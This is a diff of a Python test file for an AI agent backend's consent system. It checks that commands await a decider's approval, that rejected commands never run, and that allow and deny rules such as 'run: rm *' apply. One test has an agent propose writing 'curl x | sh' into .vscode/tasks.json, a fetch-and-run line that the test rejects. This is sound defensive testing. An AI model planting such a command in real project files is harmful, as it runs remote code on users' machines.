@@ -17,6 +17,7 @@ from ensure_projects import python_project
 from oh.protocol.consent import Policy, parse_rules
 
 from .conftest import TOKEN
+from .peers import agent, control, pending
 
 
 def url(b):
@@ -33,25 +34,6 @@ def policy(workspace, level="commands", **rules):
     )
 
 
-async def _agent(b):
-    return await connect(url(b) + "/v1/agent", additional_headers={"Authorization": f"Bearer {TOKEN}"})
-
-
-async def _control(b, token, frame):
-    async with connect(url(b) + "/v1/control", additional_headers={"Authorization": f"Bearer {token}"}) as ctl:
-        await ctl.send(json.dumps(frame))
-        return json.loads(await asyncio.wait_for(ctl.recv(), 10))
-
-
-async def _pending(b, n=1):
-    for _ in range(500):
-        rows = (await _control(b, TOKEN, {"type": "approvals", "op": "list"}))["approvals"]
-        if len(rows) >= n:
-            return rows
-        await asyncio.sleep(0.02)
-    raise AssertionError("no pending approval")
-
-
 def _trace(b):
     b.trace.flush()
     return [json.loads(line) for line in b.config.trace_path.read_text().splitlines()]
@@ -61,13 +43,13 @@ async def test_a_command_waits_past_its_deadline_and_only_the_decider_allows_it(
     b = await make_backend("local", consent=policy(workspace), action_timeout=0.5, deadline_grace=0.1)
     mon = await connect(url(b) + "/v1/monitor", additional_headers={"Authorization": f"Bearer {TOKEN}"})
     json.loads(await mon.recv())  # snapshot
-    ag = await _agent(b)
+    ag = await agent(b)
     await ag.send(
         json.dumps(
             {"id": 1, "action": "run", "args": {"command": "echo ran > ran.txt; echo done"}, "security_risk": "LOW"}
         )
     )
-    (row,) = await _pending(b)
+    (row,) = await pending(b)
     assert row["what"].startswith("echo ran") and row["security_risk"] == "LOW" and row["always"] == ["run: echo *"]
     await asyncio.sleep(1.0)  # twice the action's deadline: paused while it waits
     assert not (workspace / "ran.txt").exists()
@@ -77,9 +59,9 @@ async def test_a_command_waits_past_its_deadline_and_only_the_decider_allows_it(
         {"op": "allow", "id": row["id"], "always": True},
         {"op": "reject", "id": row["id"]},
     ):
-        answer = await _control(b, TOKEN, {"type": "approvals", "via": "cli", **op})
+        answer = await control(b, TOKEN, {"type": "approvals", "via": "cli", **op})
         assert answer["error_id"] == "FORBIDDEN", answer
-    answer = await _control(b, b.decider_token, {"type": "approvals", "op": "allow", "id": row["id"], "via": "cli"})
+    answer = await control(b, b.decider_token, {"type": "approvals", "op": "allow", "id": row["id"], "via": "cli"})
     assert answer["results"][0]["outcome"] == "allowed"
     obs = json.loads(await asyncio.wait_for(ag.recv(), 10))
     assert obs["observation"] == "run" and "done" in obs["content"], obs
@@ -99,10 +81,10 @@ async def test_a_command_waits_past_its_deadline_and_only_the_decider_allows_it(
 
 async def test_rejected_and_unanswered_commands_never_run(make_backend, workspace):
     b = await make_backend("local", consent=policy(workspace), approval_timeout=0.5)
-    ag = await _agent(b)
+    ag = await agent(b)
     await ag.send(json.dumps({"id": 1, "action": "run", "args": {"command": "touch rejected.txt"}}))
-    (row,) = await _pending(b)
-    answer = await _control(
+    (row,) = await pending(b)
+    answer = await control(
         b,
         b.decider_token,
         {"type": "approvals", "op": "reject", "id": row["id"], "reason": "not now", "via": "live view"},
@@ -115,7 +97,7 @@ async def test_rejected_and_unanswered_commands_never_run(make_backend, workspac
     obs = json.loads(await asyncio.wait_for(ag.recv(), 10))
     assert obs["cause"] == 2 and obs["extras"]["error_id"] == "REJECTED" and obs["extras"]["decided_by"] == "timeout"
     assert not (workspace / "rejected.txt").exists() and not (workspace / "late.txt").exists()
-    assert (await _control(b, b.decider_token, {"type": "approvals", "op": "allow", "id": row["id"]}))["results"][0][
+    assert (await control(b, b.decider_token, {"type": "approvals", "op": "allow", "id": row["id"]}))["results"][0][
         "outcome"
     ] == "unknown"
     await ag.close()
@@ -123,7 +105,7 @@ async def test_rejected_and_unanswered_commands_never_run(make_backend, workspac
 
 async def test_rules_deny_allow_and_always(make_backend, workspace):
     b = await make_backend("local", consent=policy(workspace, allow=["run: echo *"], deny=["run: rm *"]))
-    ag = await _agent(b)
+    ag = await agent(b)
 
     async def run(i, command):
         await ag.send(json.dumps({"id": i, "action": "run", "args": {"command": command}}))
@@ -141,8 +123,8 @@ async def test_rules_deny_allow_and_always(make_backend, workspace):
     )
     assert (workspace / "keep.txt").exists()
     await run(3, "ls -a")
-    (row,) = await _pending(b)
-    answer = await _control(
+    (row,) = await pending(b)
+    answer = await control(
         b, b.decider_token, {"type": "approvals", "op": "allow", "id": row["id"], "always": True, "via": "vscode"}
     )
     assert answer["results"][0]["rules"] == ["run: ls *"]
@@ -151,17 +133,17 @@ async def test_rules_deny_allow_and_always(make_backend, workspace):
     await run(4, "ls -la")  # now allowed by the rule: no question
     obs = json.loads(await asyncio.wait_for(ag.recv(), 10))
     assert obs["cause"] == 4 and obs["observation"] == "run"
-    status = await _control(b, TOKEN, {"type": "status"})
+    status = await control(b, TOKEN, {"type": "status"})
     assert {"verdict": "allow", "rule": "run: ls *"} in status["consent"]["rules"]
     await ag.close()
 
 
 async def test_review_decisions_need_the_decider_credential(make_backend, workspace):
     b = await make_backend("local", consent=policy(workspace, "changes"), review=True)
-    ag = await _agent(b)
+    ag = await agent(b)
     await ag.send(json.dumps({"id": 1, "action": "write", "args": {"path": str(workspace / "f.txt"), "content": "x"}}))
     for _ in range(500):
-        rows = (await _control(b, TOKEN, {"type": "review", "op": "list"}))["proposals"]
+        rows = (await control(b, TOKEN, {"type": "review", "op": "list"}))["proposals"]
         if rows:
             break
         await asyncio.sleep(0.02)
@@ -170,9 +152,9 @@ async def test_review_decisions_need_the_decider_credential(make_backend, worksp
         {"op": "accept", "all": True},
         {"op": "reject", "id": rows[0]["id"]},
     ):
-        assert (await _control(b, TOKEN, {"type": "review", **frame}))["error_id"] == "FORBIDDEN"
+        assert (await control(b, TOKEN, {"type": "review", **frame}))["error_id"] == "FORBIDDEN"
     assert not (workspace / "f.txt").exists()
-    answer = await _control(b, b.decider_token, {"type": "review", "op": "accept", "id": rows[0]["id"]})
+    answer = await control(b, b.decider_token, {"type": "review", "op": "accept", "id": rows[0]["id"]})
     assert answer["results"][0]["outcome"] == "accepted"
     obs = json.loads(await asyncio.wait_for(ag.recv(), 10))
     assert obs["observation"] == "write" and (workspace / "f.txt").read_text() == "x"
@@ -192,7 +174,7 @@ async def test_path_allow_rule_skips_the_proposal_and_deny_refuses_it(make_backe
         ),
         review=True,
     )
-    ag = await _agent(b)
+    ag = await agent(b)
     await ag.send(
         json.dumps({"id": 1, "action": "write", "args": {"path": str(workspace / "docs" / "a.md"), "content": "y"}})
     )
@@ -214,9 +196,9 @@ async def test_the_python_client_waits_for_consent(make_backend, workspace):
     b = await make_backend("local", consent=policy(workspace))
     async with await Client.connect(url(b), TOKEN, name="py") as client:
         call = asyncio.ensure_future(client.run("touch py-made.txt"))
-        (row,) = await _pending(b)
+        (row,) = await pending(b)
         assert row["agent"] == "py" and not call.done()
-        await _control(b, b.decider_token, {"type": "approvals", "op": "reject", "id": row["id"], "reason": "no"})
+        await control(b, b.decider_token, {"type": "approvals", "op": "reject", "id": row["id"], "reason": "no"})
         obs = await asyncio.wait_for(call, 10)
         assert obs.error_id == "REJECTED" and not (workspace / "py-made.txt").exists()
 
@@ -247,7 +229,7 @@ async def test_an_editor_with_the_consent_capability_is_asked_and_answers(make_b
 
     asker = await editor(["run", "consent"])
     silent = await editor(["run"])
-    ag = await _agent(b)
+    ag = await agent(b)
     await ag.send(
         json.dumps({"id": 1, "action": "run", "args": {"command": "touch ed.txt"}, "security_risk": "MEDIUM"})
     )
@@ -283,7 +265,7 @@ async def test_a_change_asked_outside_review_mode_carries_its_diff(make_backend,
     tasks = workspace / ".vscode" / "tasks.json"
     tasks.write_text('{"command": "make"}\n')
     b = await make_backend("local", consent=policy(workspace, "risky"))
-    ag = await _agent(b)
+    ag = await agent(b)
     await ag.send(
         json.dumps(
             {
@@ -293,10 +275,10 @@ async def test_a_change_asked_outside_review_mode_carries_its_diff(make_backend,
             }
         )
     )
-    (row,) = await _pending(b)
+    (row,) = await pending(b)
     assert "inside .vscode/" in row["reason"] and '-{"command": "make"}' not in row["detail"]
     assert "-make" in row["detail"] and "+curl x | sh" in row["detail"]
-    await _control(b, b.decider_token, {"type": "approvals", "op": "reject", "id": row["id"]})
+    await control(b, b.decider_token, {"type": "approvals", "op": "reject", "id": row["id"]})
     obs = json.loads(await asyncio.wait_for(ag.recv(), 10))
     assert obs["extras"]["error_id"] == "REJECTED" and tasks.read_text() == '{"command": "make"}\n'
     await ag.close()
@@ -312,20 +294,20 @@ async def test_an_ensure_install_waits_for_consent_and_a_rejected_one_never_runs
     # refuses oh's own requests for the network at once (tests/sandbox/test_backend_sandbox.py covers that).
     b = await make_backend("local", consent=policy(workspace), sandbox=Spec(level="off"))
     b.runtime._which = lambda tool: None if tool == "uv" else shutil.which(tool)  # the venv + pip route on any machine
-    ag = await _agent(b)
+    ag = await agent(b)
     await ag.send(json.dumps({"id": 1, "action": "ensure", "args": {"path": "one"}}))
-    (row,) = await _pending(b)
+    (row,) = await pending(b)
     assert row["kind"] == "run" and "-m venv .venv" in row["what"] and "pip install" in row["what"], row
     assert not (workspace / "one" / ".venv").exists()  # waiting: not run
-    answer = await _control(b, b.decider_token, {"type": "approvals", "op": "allow", "id": row["id"], "via": "cli"})
+    answer = await control(b, b.decider_token, {"type": "approvals", "op": "allow", "id": row["id"], "via": "cli"})
     assert answer["results"][0]["outcome"] == "allowed"
     obs = json.loads(await asyncio.wait_for(ag.recv(), 300))
     assert obs["cause"] == 1 and obs["extras"]["state"] == "ready", obs["content"]
     assert (workspace / "one" / ".venv" / ".oh-ensure.json").exists()
 
     await ag.send(json.dumps({"id": 2, "action": "ensure", "args": {"path": "two"}}))
-    (row,) = [r for r in await _pending(b) if r["id"] != answer["results"][0]["id"]]
-    answer = await _control(
+    (row,) = [r for r in await pending(b) if r["id"] != answer["results"][0]["id"]]
+    answer = await control(
         b,
         b.decider_token,
         {"type": "approvals", "op": "reject", "id": row["id"], "reason": "not this one", "via": "cli"},
